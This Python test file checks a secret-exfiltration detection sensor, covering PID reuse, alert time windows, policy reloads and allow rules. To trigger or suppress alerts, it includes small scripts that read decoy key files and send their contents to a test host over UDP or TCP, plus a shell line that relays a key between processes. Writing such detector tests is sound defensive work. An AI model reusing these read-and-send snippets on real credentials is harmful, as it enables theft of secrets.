# SPDX-License-Identifier: GPL-2.0-or-later
"""S04, S05, S08, and [Allow] rules: attacks on the state of the sensor."""

import os
import signal
import subprocess
import sys
import time

import harness
from harness import program, truths
from net import HOST_V4
from play import SSH, install, opened, programs, write
from tap import require, require_equal


def pid_reuse(stage):
    key, secret = stage.home.key()
    output = stage.play("state-pid-reuse", "reuse", key)
    truth, = truths(output)
    require(f"innocent={truth.sender}" in output.splitlines(), output)
    stage.net.sink.wait_arrived(b"innocent %d" % truth.sender)
    stage.net.sink.wait_arrived(secret)
    stage.check(truth, key, HOST_V4, 443, "tcp")
    stage.bw.prove_delivered(stage.net, stage.home)
    ours = stage.bw.find(lambda a: a["process"]["pid"] == truth.sender and a["repeats"] == 0)
    require_equal(len(ours), 1, "alerts for the PID that three processes had")


class Paused:
    """A state-pause process that has opened the key, and waits for go()."""

    def __init__(self, stage, variant, key, exe=None, port=443):
        command = [exe or program("technique-state-pause"), variant, key, HOST_V4, str(port)]
        self.process = stage.net.popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                       stderr=subprocess.PIPE, text=True)
        line = self.process.stdout.readline()
        require(line == "opened\n", f"state-pause: {line!r} {'' if line else self.process.stderr.read()}")

    def go(self):
        out, err = self.process.communicate("go\n", timeout=30)
        require(self.process.returncode == 0, f"state-pause: {err}")
        return truths(out)


def outside_window(stage):
    """Class brief has Window=1s; this test has to let time pass."""
    path = os.path.join(stage.home.root, b"brief/%d" % stage.home.count)
    late, _ = stage.home.decoy(path + b"-late")
    soon, _ = stage.home.decoy(path + b"-soon")
    paused = Paused(stage, "self", late)
    time.sleep(1.5)
    truth, = paused.go()
    stage.expect_silence(truth.sender, "sent after the window")
    truth, = Paused(stage, "self", soon).go()
    alert = stage.check(truth, soon, HOST_V4, 443, "tcp", class_name="brief")
    require_equal(alert["files"][0]["class"], "brief", "files[].class")


def left_outside_window(stage):
    """Left in a file until the window of its class is over: the mark has expired."""
    key, secret = stage.home.decoy(os.path.join(stage.home.root, b"brief/%d-left" % stage.home.count))
    truth, = truths(stage.play("hand-file", "late", key))
    stage.net.sink.wait_arrived(secret)
    stage.expect_silence(truth.sender, "read after the window")


def left_for_the_window(stage):
    """The same, with LateWindow=: a late alert."""
    key, secret = stage.home.decoy(os.path.join(stage.home.root, b"patient/%d-left" % stage.home.count))
    truth, = truths(stage.play("hand-file", "late", key))
    stage.net.sink.wait_arrived(secret)
    alert = stage.check(truth, key, HOST_V4, 443, "tcp", class_name="patient")
    require([r for r in alert["reasons"] if "longer than the class's window" in r["text"]],
            f"reasons: {alert['reasons']}")


def waits_for_the_window(stage):
    """Class patient has Window=1s and LateWindow=: waiting lowers the score, but does not suppress the alert."""
    scores = {}
    for name, seconds in (("late", 1.5), ("soon", 0)):
        path, _ = stage.home.decoy(os.path.join(stage.home.root, b"patient/%d-%s" % (stage.home.count, name.encode())))
        paused = Paused(stage, "self", path)
        time.sleep(seconds)
        truth, = paused.go()
        alert = stage.check(truth, path, HOST_V4, 443, "tcp", class_name="patient")
        scores[name] = alert["score"]
        waited = [r for r in alert["reasons"] if "longer than the class's window" in r["text"]]
        require_equal([r["points"] for r in waited], [-25] if name == "late" else [], f"{name}: {alert['reasons']}")
    require(scores["late"] < scores["soon"], f"scores: {scores}")


def repeats_at_window_end(stage):
    """The process does not exit: its repeats are written when the window (1 s) has passed."""
    path = os.path.join(stage.home.root, b"brief/%d-again" % stage.home.count)
    stage.home.decoy(path)
    script = ("import socket, sys; open(sys.argv[1]).read(); s = socket.socket(type=socket.SOCK_DGRAM); "
              "[s.sendto(b'x', (sys.argv[2], 9)) for _ in range(3)]; print('sent', flush=True); sys.stdin.read()")
    process = stage.net.popen([sys.executable, "-c", script, path, HOST_V4], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True)
    try:
        require_equal(process.stdout.readline(), "sent\n", "the thief")
        stage.bw.wait_alert(lambda a: a["process"]["pid"] == process.pid and a["repeats"] == 2, "the repeats")
        require(process.poll() is None, "it is still running")
    finally:
        process.communicate()


# Opens each file in turn and sends a datagram, or a line on one connection. "sent" after all of them.
SEND_EACH = """
import socket, sys
kind, address, *paths = sys.argv[1:]
sock = socket.socket(type=socket.SOCK_DGRAM if kind == "datagrams" else socket.SOCK_STREAM)
if kind != "datagrams":
    sock.connect((address, 443))
for path in paths:
    secret = open(path, "rb").read()
    sock.sendto(secret, (address, 9)) if kind == "datagrams" else sock.sendall(secret)
print("sent", flush=True)
sys.stdin.read()
"""


def harmless_first(stage, kind, n_harmless):
    """Each file that is new at the destination has its alert, which names it; one that was named is a repeat."""
    keys = [stage.home.key()[0].decode() for _ in range(n_harmless + 1)]
    process = stage.net.popen([sys.executable, "-c", SEND_EACH, kind, HOST_V4, *keys, keys[-1], keys[-1]],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        require_equal(process.stdout.readline(), "sent\n", "the thief")
        for key in keys:
            alert = stage.bw.wait_alert(
                lambda a, key=key: a["process"]["pid"] == process.pid and a["files"][0]["path"] == key, f"of {key}")
            require(key in alert["summary"], f"summary: {alert['summary']}")
    finally:
        process.communicate()
    stage.bw.prove_delivered(stage.net, stage.home)
    ours = stage.bw.find(lambda a: a["process"]["pid"] == process.pid and a["repeats"] == 0)
    require_equal(len(ours), len(keys), "alerts")


def harmless_from_others(stage):
    """The key was read before the harmless file, by a process that hands it on only after that one was sent."""
    harmless, key = (stage.home.key()[0].decode() for _ in range(2))
    script = ("import socket, sys; to = (sys.argv[1], 9); sock = socket.socket(type=socket.SOCK_DGRAM); "
              "open(sys.argv[2]).read(); sock.sendto(b'x', to); print('sent', flush=True); "
              "sock.sendto(sys.stdin.buffer.read(), to)")
    with subprocess.Popen(["sh", "-c", 'key=$(cat "$0"); kill -STOP $$; echo "$key"', key],
                          stdout=subprocess.PIPE) as giver:
        require(os.WIFSTOPPED(os.waitpid(giver.pid, os.WUNTRACED)[1]), "the giver has not stopped")
        thief = stage.net.popen([sys.executable, "-c", script, HOST_V4, harmless], stdin=giver.stdout,
                                stdout=subprocess.PIPE, text=True)
        require_equal(thief.stdout.readline(), "sent\n", "the thief")
        giver.send_signal(signal.SIGCONT)
        thief.communicate()
    alert = stage.bw.wait_alert(lambda a: a["process"]["pid"] == thief.pid and key in a["summary"], f"that names {key}")
    require_equal([entry["path"] for entry in alert["files"]], [harmless, key], "files, the latest first")


def require_reload(stage, text="policy reloaded"):
    answer = stage.bw.reload()
    require(text in answer, f"reload said: {answer}")
    return answer


def reload_between(stage):
    key, secret = stage.home.key()
    paused = Paused(stage, "self", key)
    require_reload(stage)
    truth, = paused.go()
    stage.net.sink.wait_arrived(secret)
    stage.check(truth, key, HOST_V4, 443, "tcp")


def new_class_on_reload(stage, policy_dir):
    """A class that a reload adds works at once, and one that a reload removes raises no alert any more."""
    path = os.path.join(stage.home.root, b"late-class/secret")
    conf = os.path.join(policy_dir, "95-late.conf")
    stage.home.decoy(path)
    truth, = truths(stage.play("out-tcp", "blocking", path))
    stage.expect_silence(truth.sender, "no class yet")
    opened(path)  # cached as a file of no class before the class is added
    write(conf, harness.policy_class("late", ["/**/late-class/*"], Technique="T1552.001"))
    require_reload(stage)
    truth, = truths(stage.play("out-tcp", "blocking", path))
    stage.check(truth, path, HOST_V4, 443, "tcp", class_name="late")
    os.unlink(conf)
    require_reload(stage)
    truth, = truths(stage.play("out-tcp", "blocking", path))
    stage.expect_silence(truth.sender, "the class is gone")


def bad_reload(stage, policy_dir):
    """A policy with errors keeps the current one, and the reason is logged."""
    conf = os.path.join(policy_dir, "96-bad.conf")
    write(conf, "[Class bad]\nPath=relative/[unclosed\n[Nonsense\nfoo\n")
    try:
        answer = require_reload(stage, "Reload failed")
        require("96-bad.conf" in answer or stage.bw.stderr_since(0, "96-bad.conf:"), f"no file in {answer}")
        stage.theft("out-tcp", "blocking")
    finally:
        os.unlink(conf)
    require_reload(stage)
    stage.theft("out-tcp", "blocking")


def allowed_silent(stage, exe):
    key, secret = stage.home.key()
    truth, = Paused(stage, "self", key, exe).go()
    stage.net.sink.wait_arrived(secret)
    stage.expect_silence(truth.sender, "an allowed program")


def allowed_child_clean(stage, exe_lineage):
    """Under Passes=nothing, what the program starts, and what it executes itself, is not marked."""
    for variant in ("fork", "vfork-exec", "exec"):
        key, secret = stage.home.key()
        result = stage.net.run([exe_lineage, variant, key, HOST_V4, "443"])
        require(result.returncode == 0, result.stderr)
        truth, = truths(result.stdout)
        stage.net.sink.wait_arrived(secret)
        stage.expect_silence(truth.sender, f"{variant} from an allowed program")


def allowed_child_marked(stage, exe_lineage):
    """What an allowed program starts, or executes itself, is marked if the rule passes the secret to children."""
    for variant in ("fork", "vfork-exec", "exec"):
        key, _ = stage.home.key()
        result = stage.net.run([exe_lineage, variant, key, HOST_V4, "443"])
        require(result.returncode == 0, result.stderr)
        truth, = truths(result.stdout)
        stage.check(truth, key, HOST_V4, 443, "tcp")


def copy_not_allowed(stage, exe):
    """The same bytes under another path are not allowed."""
    other = os.path.join(os.path.dirname(exe), "a-copy")
    install(exe, other)
    key, _ = stage.home.key()
    truth, = Paused(stage, "self", key, other).go()
    alert = stage.check(truth, key, HOST_V4, 443, "tcp")
    require_equal(alert["process"]["exe"], other, "process.exe")


def bound_quiet(stage, exe):
    key, secret = stage.home.key()
    truth, = Paused(stage, "self", key, exe, 443).go()
    stage.net.sink.wait_arrived(secret)
    stage.expect_silence(truth.sender, "the allowed destination")


def bound_elsewhere(stage, exe):
    key, _ = stage.home.key()
    truth, = Paused(stage, "self", key, exe, 8443).go()
    stage.check(truth, key, HOST_V4, 8443, "tcp")


def bound_child(stage, exe):
    """The child inherits the mark, but not the permission: it raises an alert where its parent did not."""
    key, _ = stage.home.key()
    parent, child = Paused(stage, "both", key, exe, 443).go()
    stage.check(child, key, HOST_V4, 443, "tcp")
    stage.expect_silence(parent.sender, "the allowed parent")


def prepare(net, home, directory):
    """The classes and rules of this part, in addition to the default policy."""
    exes = programs(home, **{name: program("technique-" + source) for name, source in (
        ("technique_allowed", "state-pause"), ("technique_allowed_line", "hand-lineage"),
        ("technique_passing_line", "hand-lineage"), ("technique_printing_line", "hand-lineage"),
        ("technique_bound", "state-pause"), ("technique_send", "send"))})
    write(os.path.join(directory, "90-test.conf"),
          harness.policy_class("brief", ["/**/brief/*"], Window="1s", LateWindow="1s", Technique="T1552.001")
          + harness.policy_class("patient", ["/**/patient/*"], Window="1s", LateWindow="1min", Score=60)
          + harness.policy_allow("test-allowed", exes["technique_allowed"], [SSH])
          + harness.policy_allow("test-allowed-line", exes["technique_allowed_line"], [SSH], passes="nothing")
          + harness.policy_allow("test-passing-line", exes["technique_passing_line"], [SSH])
          + harness.policy_allow("test-printing-line", exes["technique_printing_line"], [SSH], passes="output")
          + harness.policy_allow("test-bound", exes["technique_bound"], [SSH], [HOST_V4 + ":443"]))
    return {"directory": directory, **exes}


def part(t, stage, exes):
    policy_dir = exes["directory"]
    t.case("S05 PID reuse", pid_reuse, stage)
    t.case("S04 outside the window", outside_window, stage)
    t.case("S04 left in a file, outside the window", left_outside_window, stage)
    t.case("S04 left in a file for the window to end", left_for_the_window, stage)
    t.case("S04 waits for the window to end", waits_for_the_window, stage)
    t.case("repeats: written at the end of the window", repeats_at_window_end, stage)
    t.case("S13 a harmless file first, datagrams", harmless_first, stage, "datagrams", 1)
    t.case("S13 a harmless file first, one connection", harmless_first, stage, "stream", 1)
    t.case("S13 more harmless files first than a mark lists", harmless_first, stage, "datagrams", 10)
    t.case("S13 a harmless file read later, and sent first", harmless_from_others, stage)
    t.case("S08 a mark survives a reload", reload_between, stage)
    t.case("a class is added and removed by reload", new_class_on_reload, stage, policy_dir)
    t.case("S08 a bad policy on reload keeps the old one", bad_reload, stage, policy_dir)
    if not harness.sees_host():
        return
    t.case("allow: an allowed program is silent", allowed_silent, stage, exes["technique_allowed"])
    t.case("allow: what an allowed program starts is not marked", allowed_child_clean, stage,
           exes["technique_allowed_line"])
    t.case("allow: what an allowed program starts is not marked without Passes=children", allowed_child_clean, stage,
           exes["technique_printing_line"])
    t.case("allow: what an allowed program starts is marked by default", allowed_child_marked, stage,
           exes["technique_passing_line"])
    t.case("S01 allow: a copy elsewhere is not allowed", copy_not_allowed, stage, exes["technique_allowed"])
    t.case("allow: Destination= is silent there", bound_quiet, stage, exes["technique_bound"])
    t.case("allow: Destination= alerts elsewhere", bound_elsewhere, stage, exes["technique_bound"])
    t.case("allow: Destination= does not apply to a child", bound_child, stage, exes["technique_bound"])
